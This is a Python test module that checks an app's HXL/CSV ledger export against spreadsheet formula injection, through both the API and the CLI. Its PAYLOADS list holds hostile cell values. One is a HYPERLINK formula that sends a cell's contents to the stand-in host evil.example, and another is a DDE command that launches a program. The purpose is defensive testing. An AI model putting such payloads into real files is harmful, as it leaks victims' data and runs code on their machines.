"""Spreadsheet (CSV) injection through the coalition's HXL export (OWASP, "CSV Injection").

An editor of organisation A stores formulas as the text of a shared activity. When a member of
organisation B exports the ledger and opens the file in a spreadsheet, a cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be run as a formula: it can send
B's other cells to the attacker's server (``HYPERLINK``/``WEBSERVICE``) or start a program (DDE).
No cell of B's export may begin with a formula character, through the API or the CLI.
"""

import csv
import io

from corridor.access.rules import Role
from corridor.coalition.tables import ActivityRecord
from corridor.store import session_scope
from tests.cli_runner import run_in_process
from tests.web.conftest import LS, bearer

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",                 # a leading space: some spreadsheets skip it
    "\uff1dHYPERLINK(\"http://evil.example\")",     # a full-width equals sign
    "'=1+1",                 # already quoted once
]
#: What a spreadsheet may take as the start of a formula (OWASP), and the full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _store_shared_payloads(app, client, world, *, legacy: bool = True) -> list[str]:
    """A's editor adds one activity per payload (title and id); A's owner shares the campaign.

    A payload that the API refuses as input is written straight into the database (``legacy``),
    as a record stored before that check existed would be: the export must be safe on its own.
    """
    editor = bearer(world["tokens"][("A", Role.EDITOR)])
    cid = client.post("/api/v1/campaigns", headers=editor, json={
        "org_id": world["orgs"]["A"], "name": "=1+1 campaign", "channel": "loudspeaker",
        "start_date": "2024-06-01"}).json()["id"]
    ids = []
    for i, payload in enumerate(PAYLOADS):
        public_id = f"{payload[:12]}-{i}"
        r = client.post(f"/api/v1/campaigns/{cid}/activities", headers=editor, json={
            "id": public_id, "title": payload, "start": f"2024-06-0{1 + i % 9}T22:00:00Z",
            "spec": LS, "provinces": ["Kangwon"]})
        if r.status_code == 422:
            if not legacy:
                continue
            public_id = f"act-{i}"
            r = client.post(f"/api/v1/campaigns/{cid}/activities", headers=editor, json={
                "id": public_id, "start": "2024-06-01T22:00:00Z", "spec": LS, "provinces": ["Kangwon"]})
            with session_scope(app.state.engine) as s:
                s.get(ActivityRecord, r.json()["id"]).title = payload
        assert r.status_code == 201, r.text
        ids.append(public_id)
    owner = bearer(world["tokens"][("A", Role.OWNER)])
    assert client.post(f"/api/v1/campaigns/{cid}/share", headers=owner,
                       json={"visibility": "coalition"}).status_code == 200
    return ids


def _dangerous_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def test_b_exports_no_formula_through_the_api(app, client, world):
    _store_shared_payloads(app, client, world)
    r = client.get("/api/v1/export.hxl", headers=bearer(world["tokens"][("B", Role.VIEWER)]))
    assert r.status_code == 200
    assert r.text.count("evil.example") == 2            # the payloads are exported, as text
    assert _dangerous_cells(r.text) == []


def test_b_exports_no_formula_through_the_cli(app, client, world, db_url, tmp_path, monkeypatch, capsys):
    _store_shared_payloads(app, client, world)
    out = tmp_path / "b.csv"
    code, _, err = run_in_process(monkeypatch, capsys, "export-hxl", "--out", out, "--org", "Sky Letters",
                                  "--db", db_url)
    assert code == 0, err
    text = out.read_text(encoding="utf-8")
    assert "SUM(1+1)" in text
    assert _dangerous_cells(text) == []


def test_numbers_stay_numbers_and_a_reimport_keeps_the_text(app, client, world):
    """Numeric cells are not prefixed; B's re-import of the export keeps every title as it was."""
    _store_shared_payloads(app, client, world, legacy=False)
    exported = client.get("/api/v1/export.hxl", headers=bearer(world["tokens"][("B", Role.VIEWER)])).text
    assert _dangerous_cells(exported) == []
    rows = list(csv.reader(io.StringIO(exported)))
    power = rows[1].index("#meta +sound_power_db")
    assert all(float(row[power]) == 160 for row in rows[2:])
    headers_b = bearer(world["tokens"][("B", Role.EDITOR)])
    r = client.post("/api/v1/import", headers=headers_b, data={"org_id": world["orgs"]["B"]},
                    files={"file": ("ledger.csv", exported.encode(), "text/csv")})
    assert r.status_code == 200, r.text
    with session_scope(app.state.engine) as s:
        titles = {a.title for a in s.query(ActivityRecord).filter(ActivityRecord.org_id == world["orgs"]["B"])}
        originals = {a.title for a in s.query(ActivityRecord).filter(ActivityRecord.org_id == world["orgs"]["A"])}
    assert PAYLOADS[0] in titles and "-2+3" in titles          # kept as text: not evaluated, not dropped
    assert titles == originals                                  # the export's quotes are undone exactly
